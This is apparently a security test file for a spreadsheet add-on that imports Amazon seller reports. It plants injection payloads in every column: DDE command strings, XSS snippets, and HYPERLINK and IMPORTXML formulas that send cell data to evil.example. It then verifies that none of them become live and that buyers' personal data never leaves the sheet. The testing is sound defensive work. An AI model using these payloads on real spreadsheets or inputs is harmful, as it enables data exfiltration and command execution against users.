/**
 * What reports must not do: run something, or bring buyers' data into the sheet. Every report is imported with a trap
 * in each of its columns, audited and claimed; then everything that was written is walked through.
 */
import { inflateRawSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { writeXlsx } from "../../../simulator/xlsx.ts";
import { REPORTS } from "../../../src/reports/index.ts";
import { headerOf } from "../../unit/intake/fixtures/lines.ts";
import { FIXTURES } from "../../unit/intake/fixtures.ts";
import { csv, fileOf, freshBundle, ledgerFile } from "../import/sheet.ts";
import { ANNA, AS_OF, NOW, reimbursements } from "./account.ts";
import { Book } from "./book.ts";
import { figure } from "./figures.ts";

const TRAPS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|'/c calc'!A1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "'=1+1",
  "\t=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
];

/** What Amazon calls columns about buyers, in any of its reports. */
const PERSONAL = [
  "buyer-name",
  "buyer-email",
  "buyer-phone-number",
  "recipient-name",
  "ship-address-1",
  "ship-address-2",
  "ship-city",
  "ship-state",
  "ship-postal-code",
  "ship-phone-number",
  "bill-address-1",
  "bill-name",
  "customer-comments",
  "customer-name",
];

/** A file of a report with the cells of its fixture, some replaced, and further columns. */
function fileWith(
  report: string,
  cell: (name: string, standing: string, row: number) => string,
  more: readonly string[] = [],
) {
  const header = [...headerOf(report, 0)];
  const fixture = FIXTURES.find((one) => one.report === report);
  const standing = (fixture?.text ?? "").split("\n").filter((line) => line !== "");
  const at = standing.findIndex((line) => line.split("\t").length === header.length);
  const rows = at < 0 ? [header.map(() => "1")] : standing.slice(at + 1).map((line) => line.split("\t"));
  const known = header.map((name) => name.toLowerCase());
  const added = more.filter((name) => !known.includes(name.toLowerCase()));
  const all = [...header, ...added];
  const cells = rows.map((row, index) => all.map((name, i) => cell(name, row[i] ?? "", index)));
  return fileOf(`=HYPERLINK("http://evil.example/","${report}").csv`, csv([all, ...cells]), NOW);
}

const REPORT_IDS = [...new Set(FIXTURES.map(({ report }) => report))];

/** The text of everything in a zip file. */
function unzipped(bytes: Uint8Array): string {
  const zip = Buffer.from(bytes);
  let text = "";
  for (let at = zip.indexOf("PK\x03\x04"); at >= 0; at = zip.indexOf("PK\x03\x04", at + 4)) {
    const [method, size] = [zip.readUInt16LE(at + 8), zip.readUInt32LE(at + 18)];
    const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
    const body = zip.subarray(start, size > 0 ? start + size : undefined);
    text += method === 0 ? body.toString("utf8") : inflateRawSync(body).toString("utf8");
  }
  return text;
}

describe.each([true, false])("traps in every column, where @ %s keeps what begins with =", (keeps) => {
  let book: Book;
  let taken = 0;

  beforeAll(async () => {
    book = await Book.open({ textFormatKeepsFormulas: keeps });
    const types = new Map(REPORTS.map((one) => [one.id, one]));
    const files = REPORT_IDS.map((report) =>
      fileWith(
        report,
        (name, standing, row) => {
          const columns = Object.entries(types.get(report)?.columns ?? {});
          const found = columns.find(([, { header }]) => header.toLowerCase() === name.toLowerCase());
          const free = found === undefined || ["id", "text"].includes(found[1].type);
          return free && row % 2 === 0 ? (TRAPS[taken++ % TRAPS.length] ?? "") : standing;
        },
        ["=1+1", "<b>mine</b>"],
      ),
    );
    const { imports } = await book.import(files);
    expect(imports.length).toBeGreaterThan(30);
    await book.as(ANNA).setUp({});
    await book.as(ANNA).auditSummary({ asOf: AS_OF, marketplace: "US" });
  }, 300_000);

  it("run nowhere: no cell of the workbook is a formula, a link or a note", () => {
    const { sheets } = book.workbook.snapshot();
    let cells = 0;
    let traps = 0;
    for (const { name, values, formulas, notes, richText, charts } of sheets) {
      expect(name).not.toMatch(/[=<>]|evil|@/);
      expect(formulas, name).toEqual({});
      expect(notes, name).toEqual({});
      expect(charts, name).toEqual([]);
      expect(JSON.stringify(richText), name).not.toContain("evil.example");
      for (const row of values) {
        for (const value of row) {
          cells += 1;
          if (typeof value === "string" && TRAPS.includes(value)) traps += 1;
        }
      }
    }
    figure(`traps in reports (@ ${keeps ? "keeps" : "does not keep"} formulas as text)`, taken);
    figure("cells walked through", cells);
    expect(traps).toBeGreaterThan(200);
  });

  it("run in no exported file", async () => {
    const text = unzipped(await writeXlsx(book.workbook));
    expect(text).toContain("evil.example");
    expect(text).not.toMatch(/<f[ >]|<hyperlink|onerror=alert\(1\)>|<script>/);
  });
});

describe("cells that break programs", () => {
  const HARD = ["1e400", "NaN", "-", "'", "__proto__", "\u202E", "9".repeat(400), "x".repeat(50_000)];

  it("reach the sheet as they are, through audit, claim and case text, or are refused with their line", async () => {
    const book = await Book.open();
    const refused = ["a\u0000b", "x".repeat(50_001)];
    const rows = [...TRAPS, ...HARD, ...refused].map((text, i) => ({
      day: 1 + i,
      item: `X00HARD${String(i).padStart(3, "0")}`,
      msku: text,
      reference: `R${i}`,
      quantity: -1,
    }));
    const { imports } = await book.import([ledgerFile("hard.csv", rows), reimbursements()]);
    const [ledger] = imports;
    expect(ledger).toMatchObject({ rows: rows.length, added: rows.length - refused.length });
    expect(ledger?.rejected).toMatchObject([
      { line: rows.length, reason: expect.stringContaining("NUL") },
      { line: rows.length + 1, reason: expect.stringContaining("50,000") },
    ]);
    const standing = new Map(
      book.rows("Inventory Ledger Detail").map((row) => [row["Reference ID"], row["MSKU"]]),
    );
    for (const { reference, msku } of rows.slice(0, -refused.length)) {
      // Blanks around a cell are no part of it; what no cell can hold is told by its absence.
      expect(String(standing.get(reference)).trim(), reference).toBe(msku.trim());
    }
    await book.as(ANNA).setUp({});
    await book.as(ANNA).auditSummary({ asOf: AS_OF, marketplace: "US" });
    const { findings } = await book.as(ANNA).findingsList({ from: 0, revision: null });
    const lost = findings.filter(({ audit }) => audit === "warehouse-lost");
    expect(lost).toHaveLength(rows.length - refused.length);
    let texts = 0;
    for (const [i, { id }] of lost.entries()) {
      const operation = `op-hard-${String(i).padStart(3, "0")}`;
      const { refused, claim } = await book.as(ANNA).findingStart({ id, version: "", operation });
      expect(refused).toBeNull();
      if (!claim) throw new Error("There is no claim.");
      const before = JSON.stringify(book.workbook.snapshot());
      const language = claim.texts?.languages[i % (claim.texts.languages.length || 1)]?.id ?? "en";
      const { subject, text } = await book
        .as(ANNA)
        .caseText({ id: claim.claim.id, stage: "first", language });
      expect(subject.length).toBeLessThan(500);
      expect(text).toContain(`X00HARD`);
      expect(JSON.stringify(book.workbook.snapshot())).toBe(before);
      texts += 1;
    }
    figure("case texts with hostile cells", texts);
    for (const { name, formulas } of book.workbook.snapshot().sheets) expect(formulas, name).toEqual({});
    expect(book.workbook.outbox).toEqual([]);
  }, 300_000);
});

describe("buyers' data in every column Amazon has for it", () => {
  it("reaches neither the server, the sheet, what it remembers, its log, nor the exported file", async () => {
    const book = await Book.open();
    const seen: string[] = [];
    book.watcher = ({ request }) => seen.push(JSON.stringify(request));
    let marks = 0;
    const files = REPORT_IDS.map((report) => {
      const definition = REPORTS.find(({ id }) => id === report);
      const personal = [
        ...new Set([...(definition?.personal ?? []), ...PERSONAL].map((name) => name.toLowerCase())),
      ];
      const own = Object.values(definition?.columns ?? {}).map(({ header }) => header.toLowerCase());
      const dropped = personal.filter((name) => !own.includes(name));
      return fileWith(
        report,
        (name, standing) => (dropped.includes(name.toLowerCase()) ? `MARKED-${report}-${marks++}` : standing),
        dropped,
      );
    });
    const { imports } = await book.import(files);
    expect(imports.length).toBeGreaterThan(30);
    await book.as(ANNA).auditSummary({ asOf: AS_OF, marketplace: "US" });
    figure("cells of buyers' data imported", marks);
    expect(marks).toBeGreaterThan(400);
    expect(seen.filter((text) => text.includes("MARKED-"))).toEqual([]);
    expect(JSON.stringify(book.workbook.snapshot())).not.toContain("MARKED-");
    expect(unzipped(await writeXlsx(book.workbook))).not.toContain("MARKED-");
    expect(book.workbook.outbox).toEqual([]);
    expect(JSON.stringify(imports)).not.toContain("MARKED-");
    const asked = Object.keys(book.sheets.stats().byKind);
    expect(asked.filter((kind) => /Cache|Mail|UrlFetch|Logger|console/.test(kind))).toEqual([]);
  }, 300_000);

  it("could go nowhere: the add-on asks for no right to call a server, and calls none", async () => {
    const { code, manifest } = await freshBundle();
    expect(manifest.oauthScopes.join()).not.toMatch(/external_request|auth\/drive|send_mail|mail\.google/);
    expect(code).not.toMatch(
      /UrlFetchApp|XMLHttpRequest|WebSocket|\bfetch\(|sendBeacon|MailApp|GmailApp|Jdbc/,
    );
  });
});
